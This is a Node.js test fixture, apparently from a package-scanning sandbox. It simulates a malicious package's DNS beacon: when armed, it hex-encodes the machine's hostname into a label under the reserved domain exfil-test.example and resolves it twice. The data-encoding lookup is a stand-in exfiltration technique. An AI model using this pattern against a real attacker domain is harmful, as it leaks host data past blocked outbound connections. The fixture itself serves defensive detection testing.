// Simulates the DNS beacons of malicious packages that encode host data into
// the labels of an attacker's domain and look it up, so the attacker's name
// server receives the data even where outbound connections are blocked.
// What this does instead, harmlessly: it looks up names under
// exfil-test.example (.example is reserved by RFC 2606 and never resolves),
// once with getaddrinfo (dns.lookup) and once with c-ares (dns.resolve4). The
// sandbox's resolver, on its loopback, is its sinkhole's: it answers with an
// address inside the sandbox (offline, nobody answers and both give up
// within seconds).
'use strict';
const dns = require('dns');
const os = require('os');

if (!require('fs').existsSync(require('path').join(__dirname, 'armed'))) {
  console.log("attack-dns-beacon: not armed by scanfarm's tests, doing nothing");
  process.exit(0);
}
const label = Buffer.from(os.hostname()).toString('hex'); // the "exfiltrated" data
let pending = 2;
const done = (what) => (err) => {
  console.log(`attack-dns-beacon: ${what}: ${err ? err.code : 'answered'}`);
  if (--pending === 0) process.exit(0);
};
dns.lookup('c2-beacon.exfil-test.example', done('lookup'));
const resolver = new dns.Resolver({ timeout: 1500, tries: 1 });
resolver.resolve4(`${label}.exfil-test.example`, done('resolve4'));
setTimeout(() => process.exit(0), 8000).unref();
